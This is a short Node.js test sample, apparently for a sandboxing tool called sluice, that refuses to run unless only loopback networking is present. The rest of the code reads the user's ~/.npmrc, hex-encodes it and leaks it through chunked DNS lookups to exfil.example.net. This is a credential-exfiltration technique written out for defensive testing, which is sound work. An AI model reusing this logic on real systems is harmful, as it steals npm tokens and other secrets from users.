// INERT SAMPLE written for sluice's tests: refuses to run outside a sealed
// network namespace (no interface but loopback), such as the sluice sandbox's.
const fs = require("fs");
const os = require("os");
if (Object.keys(os.networkInterfaces()).some((n) => n !== "lo")) {
  throw new Error("inert sample: runs only inside a sealed network namespace");
}
const path = require("path");
const dns = require("dns");

const rc = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8");
const hex = Buffer.from(rc).toString("hex");
for (let i = 0; i < hex.length; i += 60) {
  const label = hex.slice(i, i + 60);
  dns.lookup(`${label}.${i / 60}.exfil.example.net`, () => {});
}
